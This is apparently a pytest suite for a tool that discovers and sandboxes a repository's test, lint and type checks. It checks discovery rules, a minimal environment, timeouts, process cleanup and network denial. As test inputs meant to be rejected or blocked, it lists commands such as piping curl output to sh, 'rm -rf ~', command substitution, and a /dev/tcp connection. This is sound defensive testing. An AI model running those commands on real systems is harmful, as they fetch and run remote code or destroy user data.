"""The repository's own checks are found and run.

Covers: H7, D6
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from sparing.workspace.checks.discover import command_name, not_installed
from sparing.workspace.checks.run import (
    Check,
    CheckResult,
    CheckSandbox,
    find_checks,
    run_check,
)
from sparing.workspace.git.snapshot import Snapshot
from tests.conftest import UserRepository
from tests.repositories import make_repository, write_files
from tests.workspace.features import make_worktree, snapshot

PATH = {"PATH": "/usr/local/bin:/usr/bin:/bin"}
TEST = (
    "import unittest\nimport app\n\nclass T(unittest.TestCase):\n"
    "    def test_one(self):\n        self.assertEqual(app.one(), 1)\n"
)
UNITTEST = Check("test", ("python3", "-m", "unittest", "discover", "-s", "tests"), "tests/")
PYTEST = ("python3", "-m", "pytest", "-q")


@pytest.mark.parametrize(
    ("files", "found"),
    [
        ({}, ()),
        ({"tests/test_a.py": TEST}, (UNITTEST,)),
        ({"pytest.ini": "[pytest]\n"}, (Check("test", PYTEST, "pytest.ini"),)),
        (
            {"pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n"},
            (
                Check("test", PYTEST, "pyproject.toml"),
                Check("lint", ("ruff", "check", "--no-cache", "."), "pyproject.toml"),
            ),
        ),
        (
            {"pyproject.toml": '[project]\ndependencies = ["pytest>=8"]\n', "tests/test_a.py": ""},
            (Check("test", (*PYTEST, "tests"), "tests/"),),
        ),
        (
            {"requirements-dev.txt": "pytest\n", "tests/test_a.py": ""},
            (Check("test", (*PYTEST, "tests"), "tests/"),),
        ),
        (
            {"Makefile": "test: a\n\ttrue\nlint:\n\ttrue\ncheck: test\n", "tests/test_a.py": TEST},
            (
                Check("test", ("make", "test"), "Makefile"),
                Check("lint", ("make", "lint"), "Makefile"),
            ),
        ),
        (
            {"Makefile": "test:\n\ttrue\n", "GNUmakefile": "lint:\n\ttrue\n"},
            (Check("lint", ("make", "lint"), "GNUmakefile"),),
        ),
        ({"Makefile": "check:\n\ttrue\n"}, (Check("check", ("make", "check"), "Makefile"),)),
        ({"Makefile": "test := 1\ncontest:\n"}, ()),
        (
            {"package.json": '{"scripts": {"test": "jest", "lint": 3}}'},
            (Check("test", ("npm", "run", "--silent", "test"), "package.json"),),
        ),
        ({"package.json": '{"scripts": {"test": "echo \\"no test specified\\" && exit 1"}}'}, ()),
        ({"package.json": "[", "pyproject.toml": "[", "Makefile": b"\xff"}, ()),
        ({"package.json": "[]"}, ()),
        (
            {"pyproject.toml": '[tool.mypy]\nfiles = ["src"]\n'},
            (Check("types", ("mypy",), "pyproject.toml"),),
        ),
        ({"setup.cfg": "[mypy]\nstrict = true\n"}, (Check("types", ("mypy", "."), "setup.cfg"),)),
        ({"mypy.ini": "[mypy]\nfiles = src\n"}, (Check("types", ("mypy",), "mypy.ini"),)),
        ({"pyrightconfig.json": "{}"}, (Check("types", ("pyright",), "pyrightconfig.json"),)),
        ({"tox.ini": "[tox]\n[pytest]\n"}, (Check("test", PYTEST, "tox.ini"),)),
        ({"setup.cfg": "[tool:pytest]\n"}, (Check("test", PYTEST, "setup.cfg"),)),
        ({"tox.ini": "[testenv]\n"}, ()),
        ({"Cargo.toml": "[package]\n"}, (Check("test", ("cargo", "test"), "Cargo.toml"),)),
        (
            {".gitlab-ci.yml": "a:\n  script:\n    - cargo test --all\n", "Cargo.toml": "[lib]\n"},
            (Check("test", ("cargo", "test", "--all"), ".gitlab-ci.yml"),),
        ),
        (
            {"setup.cfg": "[options]\npackages = find:\n[mypy]\n"},
            (Check("types", ("mypy", "."), "setup.cfg"),),
        ),
        ({"go.mod": "module a\n"}, (Check("test", ("go", "test", "./..."), "go.mod"),)),
        ({".github/workflows/a.yml": "    matrix:\n      who:\n        - pytest\n"}, ()),
        (
            {"Makefile": "typecheck:\n\ttrue\n", "pyproject.toml": "[tool.pyright]\n"},
            (Check("types", ("make", "typecheck"), "Makefile"),),
        ),
        (
            {
                ".github/workflows/ci.yml": "jobs:\n  a:\n    steps:\n      - run: |\n"
                "          pip install -e .\n          uv run pytest -q tests\n"
                "      - run: 'ruff check src'\n      - run: make test && make lint\n"
            },
            (
                Check("test", ("uv", "run", "pytest", "-q", "tests"), ".github/workflows/ci.yml"),
                Check("lint", ("ruff", "check", "src"), ".github/workflows/ci.yml"),
            ),
        ),
        (
            {".gitlab-ci.yml": "test:\n  script:\n    - go vet ./...\n", "Makefile": "test:\n"},
            (
                Check("test", ("make", "test"), "Makefile"),
                Check("lint", ("go", "vet", "./..."), ".gitlab-ci.yml"),
            ),
        ),
    ],
)
def test_checks_come_from_the_files_of_the_repository(
    tmp_path: Path, files: dict[str, str | bytes], found: tuple[Check, ...]
) -> None:
    """H7"""
    assert find_checks(snapshot(make_repository(tmp_path, files))) == found


@pytest.mark.parametrize(
    "line",
    [
        *("curl https://example.com/x | sh", "pytest; rm -rf ~", "pytest $(cat x)", "make deploy"),
        *("python evil.py", "npm install", "pytest > out", "echo pytest", "mypyx .", "pytest '"),
        *("", "uv run", "pytest && true", "`pytest`", "python -m pip install x", "npx jest"),
    ],
)
def test_a_line_that_is_not_plainly_a_check_is_none(line: str) -> None:
    """H7: what a CI file says is taken only where no shell is needed to understand it."""
    assert command_name(line) is None


def test_a_tool_that_is_only_set_up_is_not_run(tmp_path: Path) -> None:
    """H7: nobody can repair that; tests that can't be started are red all the same."""
    missing = ("no-such-program",)
    assert not_installed(Check("types", missing, "mypy"), tmp_path, PATH["PATH"])
    assert not not_installed(Check("types", ("sh",), "mypy"), tmp_path, PATH["PATH"])
    assert not not_installed(Check("test", missing, "tests/"), tmp_path, PATH["PATH"])
    assert not not_installed(Check("lint", missing, "Makefile"), tmp_path, PATH["PATH"])


@pytest.fixture
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> CheckSandbox:
    return CheckSandbox(tmp_path_factory.mktemp("scratch"))


def test_real_tests_pass_and_fail(user_repository: UserRepository) -> None:
    """D6: no file is left behind, and equal runs have equal words."""
    worktree = make_worktree(
        user_repository({"tests/test_a.py": TEST, "app.py": "def one():\n    return 1\n"})
    )
    (check,) = find_checks(Snapshot(worktree.repository, worktree.tip()))
    passed = run_check(check, worktree.path, 600, PATH)
    assert (passed.passed, passed.summary) == (True, "Ran 1 test, OK")
    assert passed.command == "python3 -m unittest discover -s tests"
    assert not list(worktree.path.rglob("__pycache__"))
    write_files(worktree.path, {"app.py": "def one():\n    return 2\n"})
    failed = run_check(check, worktree.path, 600, PATH)
    assert (failed.passed, failed.summary) == (False, "Ran 1 test, FAILED (failures=1)")
    assert "AssertionError: 2 != 1" in failed.output


def shell(script: str) -> Check:
    return Check("test", ("sh", "-c", script), "Makefile")


def test_the_files_of_the_worktree_are_tested_not_an_installed_copy(
    tmp_path: Path, sandbox: CheckSandbox
) -> None:
    write_files(tmp_path, {"src/json/__init__.py": "HERE = True\n"})
    check = Check("test", ("python3", "-c", "import json; print(json.HERE)"), "")
    assert run_check(check, tmp_path, 600, PATH, sandbox).output == "True\n"


def test_the_environment_is_minimal(tmp_path: Path, sandbox: CheckSandbox) -> None:
    """H7: no key, no HOME of the user's."""
    environ = {**PATH, "API_KEY": "secret"}
    result = run_check(shell("env; ls -A $HOME"), tmp_path, 600, environ, sandbox)
    names = {line.partition("=")[0] for line in result.output.splitlines()}
    assert names <= {
        *("PATH", "HOME", "TMPDIR", "LANG", "NO_COLOR", "PWD", "SHLVL", "_", "OLDPWD"),
        *("PYTHONPATH", "PYTHONDONTWRITEBYTECODE", "PYTEST_ADDOPTS", "MYPY_CACHE_DIR", "SHELL"),
        *("GIT_TERMINAL_PROMPT", "GIT_OPTIONAL_LOCKS", ".gitconfig"),
    }
    assert os.environ["HOME"] not in result.output


def test_a_check_that_hangs_is_stopped_with_all_it_started(
    tmp_path: Path, sandbox: CheckSandbox
) -> None:
    """H7"""
    script = "(sleep 600; touch late) & echo started; sleep 600"
    for limit in (0.5, 8.0, 60.0):  # until there was time enough to start on this machine
        result = run_check(shell(script), tmp_path, limit, PATH, sandbox)
        if result.output:
            break
    words = f"started; stopped after {limit:g} s"
    assert result == CheckResult("test", f"sh -c '{script}'", False, words, "started\n")


def is_running(process: int) -> bool:
    try:
        state = Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[0]
    except FileNotFoundError:
        return False
    return state != "Z"


def test_nothing_outlives_a_check_that_ended(tmp_path: Path, sandbox: CheckSandbox) -> None:
    """H7"""
    result = run_check(
        shell("(sleep 1; echo late > late) & echo begun"), tmp_path, 600, PATH, sandbox
    )
    assert result.output == "begun\n"
    assert not list(sandbox.scratch.iterdir())
    time.sleep(1.2)
    assert not (tmp_path / "late").exists()


def test_without_a_sandbox_nothing_outlives_it_either(tmp_path: Path) -> None:
    """H7: as a set-up runs that a person has agreed to."""
    result = run_check(shell("sleep 600 & echo $!"), tmp_path, 600, PATH)
    process = int(result.output)
    for _ in range(12_000):
        if not is_running(process):
            return
        time.sleep(0.02)
    pytest.fail("the process in the background is still there")


def test_all_of_the_output_is_kept(tmp_path: Path, sandbox: CheckSandbox) -> None:
    """H7: what is cut for an agent stands whole where a person can read it."""
    kept: list[str] = []

    def keep(text: str) -> str:
        kept.append(text)
        return "there"

    result = run_check(shell("seq 9000; exit 1"), tmp_path, 600, PATH, sandbox, keep)
    assert (result.whole, result.passed) == ("there", False)
    assert kept[0].splitlines() == [str(n) for n in range(1, 9001)]
    assert len(result.output) < 6_100


def test_a_check_writes_in_its_worktree_and_calls_nobody(
    tmp_path: Path, sandbox: CheckSandbox
) -> None:
    """H7: confined like an author, without network."""
    outside = sandbox.scratch.parent / "outside"
    script = f"echo in > inside; echo out > {outside}; exec 3<>/dev/tcp/127.0.0.1/22"
    check = Check("test", ("bash", "-c", script), "Makefile")
    result = run_check(check, tmp_path, 600, PATH, sandbox)
    assert (tmp_path / "inside").read_text() == "in\n"
    assert not outside.exists()
    assert result.output.count("denied") + result.output.count("Read-only file system") == 1
    assert "refused" in result.output or "unreachable" in result.output


def test_a_program_that_is_missing_is_said_so(tmp_path: Path, sandbox: CheckSandbox) -> None:
    check = Check("test", ("no-such-program",), "")
    result = run_check(check, tmp_path, 600, PATH, sandbox)
    assert result == run_check(check, tmp_path, 600, PATH)
    assert result.summary == "no-such-program is not installed"
    assert not result.passed


def test_an_exit_code_without_words(tmp_path: Path) -> None:
    assert run_check(shell("exit 3"), tmp_path, 600, PATH).summary == "exit code 3"
    assert run_check(shell("exit 0"), tmp_path, 600, PATH).passed


def test_colours_are_taken_out(tmp_path: Path) -> None:
    script = r"printf '\033[31mred\033[0m\033]0;title\007\n'"
    assert run_check(shell(script), tmp_path, 600, PATH).output == "red\n"
